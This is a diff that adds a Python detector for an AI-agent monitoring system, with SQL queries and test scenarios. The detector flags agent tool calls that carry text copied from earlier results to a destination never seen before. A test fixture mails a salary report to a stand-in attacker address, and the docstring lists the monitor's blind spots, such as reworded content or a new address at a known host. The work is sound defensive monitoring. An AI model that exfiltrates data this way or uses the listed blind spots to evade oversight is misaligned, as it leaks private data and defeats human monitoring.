@@ -1,0 +1,103 @@
+"""Text from a result flows to a destination not seen before.
+
+What it detects
+A call whose arguments hold a stretch of an earlier result (shared fingerprints: 48 characters or more, also when encoded) and an address,
+host, account or phone number that this agent never used before the session, that the user did not name, and that the copied result does
+not itself name (an answer to the sender of a mail goes back to where the text came from).
+
+Why it matters
+Exfiltration through an agent needs two things, something worth taking and somewhere to send it. Either alone is ordinary.
+
+False positives
+First contact with a new customer or supplier on the agent's own initiative. Agents without history: their findings count as order only.
+
+Blind spots
+A new address at a host that the agent already uses. Content that was reworded on the way. Destinations that are no address, host, account
+or phone number (a channel, a repository).
+"""
+
+from datetime import timedelta
+from typing import Any
+
+from detectors.contract import Detector, Scope
+from detectors.scenarios import START, call, session, together
+from store.records import Outcome, Record, Severity
+
+LEARN = """
+SELECT coalesce(agent, '') || '|' || atom AS key, count(*) AS n, min(called_at) AS first_at, max(called_at) AS last_at
+FROM (SELECT agent, called_at, unnest(argument_atoms) AS atom FROM calls WHERE outcome <> 'denied')
+WHERE (atom & 15) IN (3, 4, 8) GROUP BY 1
+"""
+
+FIND = """
+WITH begun AS (
+    SELECT session_id, min(called_at) AS began_at FROM calls GROUP BY session_id
+), known AS (
+    SELECT key, first_at FROM normal WHERE detector = 'content_reaches_new_destination'
+), experience AS (
+    SELECT split_part(key, '|', 1) AS agent, first_at FROM known
+), given AS (
+    SELECT session_id, unnest(text_atoms) AS atom FROM messages WHERE role = 'user'
+), sent AS (
+    SELECT s.*, b.began_at, unnest(s.argument_atoms) AS atom FROM steps AS s JOIN begun AS b USING (session_id)
+    WHERE s.outcome <> 'denied' AND coalesce(s.decision, '') <> 'reject' AND len(s.argument_shingles) > 0
+), new AS (
+    SELECT s.session_id, s.call_id, s.step, s.agent, s.tool, s.server, s.began_at, s.argument_shingles, s.argument_atoms, s.atom
+    FROM sent AS s LEFT JOIN known AS k ON k.key = coalesce(s.agent, '') || '|' || s.atom
+    WHERE (s.atom & 15) IN (3, 4, 8) AND (k.first_at IS NULL OR k.first_at >= s.began_at)
+      AND NOT EXISTS (SELECT 1 FROM given AS g WHERE g.session_id = s.session_id AND g.atom = s.atom)
+), carried AS (
+    SELECT n.session_id, n.call_id, n.tool, n.server, n.agent, n.began_at, n.atom, r.call_id AS read_id, r.tool AS read_tool, r.server AS read_server,
+           len(list_intersect(n.argument_shingles, r.result_shingles)) AS shared,
+           len(list_filter(list_intersect(n.argument_atoms, r.result_atoms), lambda a: (a & 15) = 6)) AS secrets
+    FROM new AS n JOIN steps AS r ON r.session_id = n.session_id AND r.step < n.step AND len(r.result_shingles) > 0
+    WHERE NOT list_contains(r.result_atoms, n.atom)
+), best AS (
+    SELECT *, row_number() OVER (PARTITION BY session_id, call_id ORDER BY secrets DESC, shared DESC, read_id, atom) AS place
+    FROM carried WHERE shared >= 2
+)
+SELECT b.session_id AS scope_key, b.call_id AS subject, [b.read_id, b.call_id] AS call_ids,
+       CASE WHEN b.secrets > 0 THEN 4 WHEN x.known >= 5 THEN 3 ELSE 1 END AS grade,
+       CASE WHEN x.known >= 5 THEN 0.9 ELSE 0.5 END AS score,
+       b.tool || coalesce(' of ' || b.server, '') || ' carries text that ' || b.read_tool || coalesce(' of ' || b.read_server, '') || ' returned ('
+           || b.shared || ' shared fingerprints) to ' || CASE b.atom & 15 WHEN 3 THEN 'a host' WHEN 4 THEN 'an account' ELSE 'a phone number' END
+           || ' that the user did not name and that ' || coalesce(b.agent, 'the agent') || ' never used before this session; '
+           || CASE WHEN x.known >= 5 THEN 'it knew ' || x.known || ' destinations.' ELSE 'it has little history (' || x.known || ' destinations).' END AS sentence,
+       {'read_call': b.read_id, 'sent_call': b.call_id, 'shared_fingerprints': b.shared, 'destination': b.atom::VARCHAR,
+        'known_destinations': x.known} AS evidence
+FROM best AS b
+JOIN (SELECT c.session_id, c.call_id, count(e.agent) AS known
+      FROM best AS c LEFT JOIN experience AS e ON e.agent = coalesce(c.agent, '') AND e.first_at < c.began_at
+      WHERE c.place = 1 GROUP BY ALL) AS x USING (session_id, call_id)
+WHERE b.place = 1
+"""
+
+_REPORT = "Salaries of the third quarter: the director has 91,000, the two leads have 74,500 and 72,300, all others between 48,000 and 61,000."
+_PAST = [
+    session(call("send_email", {"to": f"pat@partner{n}.example", "body": f"Good morning number {n}, all is well."}, "sent", server="mail"),
+            name=f"past-{n}", start=START - timedelta(days=n + 1), prompt=f"Greet pat@partner{n}.example")
+    for n in range(6)
+]
+
+
+def _mailed(to: str, prompt: str, result: str = _REPORT, **more: Any) -> list[Record]:
+    return [*together(*_PAST), *session(
+        call("read_file", {"path": "/reports/q3.txt"}, result, server="files"),
+        call("send_email", {"to": to, "body": f"As promised. {_REPORT}"}, "sent", server="mail", **more), prompt=prompt)]
+
+
+DETECTOR = Detector(
+    severity=Severity.HIGH,
+    techniques=("owasp-mcp:2025:MCP10", "owasp-mcp:2025:MCP06", "owasp-asi:2026:ASI02", "owasp-llm:2026:LLM02", "atlas:AML.T0086", "safe-mcp:SAFE-T1703",
+                "attack:T1048"),
+    scope=Scope.SESSION,
+    learn=LEARN,
+    find=FIND,
+    fires_on={"a report goes to a stranger": _mailed("eve@evil.example", "Summarise the third quarter for me.")},
+    quiet_on={
+        "the user named the stranger": _mailed("eve@evil.example", "Mail the third quarter to eve@evil.example."),
+        "a partner of long standing": _mailed("pat@partner3.example", "Summarise the third quarter for me and tell the partner."),
+        "an answer to the sender": _mailed("kim@newcustomer.example", "Answer the last mail.", f"From: kim@newcustomer.example\n{_REPORT}"),
+        "the call was denied": _mailed("eve@evil.example", "Summarise the third quarter.", outcome=Outcome.DENIED),
+    },
+)
